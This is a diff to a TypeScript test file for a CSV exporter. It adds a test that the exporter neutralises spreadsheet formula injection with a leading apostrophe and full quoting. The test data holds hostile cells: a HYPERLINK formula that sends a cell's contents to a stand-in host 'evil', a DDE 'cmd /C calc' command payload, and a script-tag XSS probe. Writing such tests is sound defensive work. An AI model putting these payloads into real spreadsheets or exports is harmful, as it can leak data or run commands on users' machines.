@@ -21,8 +21,52 @@ const table: DataTable = {
 }
 
 describe('console tables, exports and cookies', () => {
-  it('writes CSV with a BOM, Chinese headers and quoted cells', () => {
-    expect(toCsv(table)).toBe('\ufeff群名,人数\r\n"北京1群, ""读书会""",12\r\n<script>alert(1)</script>,3\r\n')
+  it('writes CSV with a BOM, Chinese headers and every text cell quoted', () => {
+    expect(toCsv(table)).toBe('\ufeff"群名","人数"\r\n"北京1群, ""读书会""",12\r\n"<script>alert(1)</script>",3\r\n')
+  })
+
+  it('neutralises CSV cells a spreadsheet would read as a formula (a leading apostrophe), and keeps numbers numbers', () => {
+    const hostile: DataTable = {
+      name: 'cases',
+      title: '记录',
+      columns: [
+        { key: 'text', label: '内容' },
+        { key: 'n', label: '数', numeric: true },
+      ],
+      rows: [
+        { text: '=HYPERLINK("http://evil/?"&A1,"点我")', n: -3 },
+        { text: "+1+cmd|' /C calc'!A0", n: 0 },
+        { text: '-2+3', n: 1.5 },
+        { text: '@SUM(1,2)', n: 7 },
+        { text: '\t=1+1', n: 7 },
+        { text: '\r=1+1', n: 7 },
+        { text: '  =1+1', n: 7 },
+        { text: '\n=1+1', n: 7 },
+        { text: '\u3000＝1+1', n: 7 },
+        { text: '-3', n: 7 },
+        { text: 'a;=1+1', n: 7 },
+        { text: '一切正常 =1+1', n: 7 },
+        { text: '', n: 7 },
+      ],
+    }
+    const lines = toCsv(hostile).slice(1).split('\r\n')
+    expect(lines.slice(1, -1)).toEqual([
+      `"'=HYPERLINK(""http://evil/?""&A1,""点我"")",-3`,
+      `"'+1+cmd|' /C calc'!A0",0`,
+      `"'-2+3",1.5`,
+      `"'@SUM(1,2)",7`,
+      `"'\t=1+1",7`,
+      `"'\r=1+1",7`,
+      `"'  =1+1",7`,
+      `"'\n=1+1",7`,
+      `"'\u3000＝1+1",7`,
+      // text that looks like a number is text: a member's message "-3" is not a number column
+      `"'-3",7`,
+      // quoted, so a spreadsheet splitting on ";" (some locales) cannot make "=1+1" a cell of its own
+      `"a;=1+1",7`,
+      `"一切正常 =1+1",7`,
+      `"",7`,
+    ])
   })
 
   it('writes an .xlsx that reads back with its headers and numbers', async () => {
